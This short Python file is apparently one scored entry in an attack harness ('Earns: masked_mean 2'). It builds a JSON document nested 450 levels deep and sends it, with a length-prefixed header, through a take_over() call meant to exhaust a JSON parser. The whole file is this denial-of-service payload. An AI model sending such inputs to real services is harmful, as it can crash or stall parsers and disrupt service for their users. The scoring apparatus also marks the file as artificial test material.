"""Sends lists in lists, as deep as the parser of JSON will go.

Earns: masked_mean 2
"""

import json
import struct


@in_call
def attack():
    head, body = b'{"list":[' * 450 + b"]}" * 450, b""
    take_over(struct.pack(">II", len(head), len(body)) + head + body)
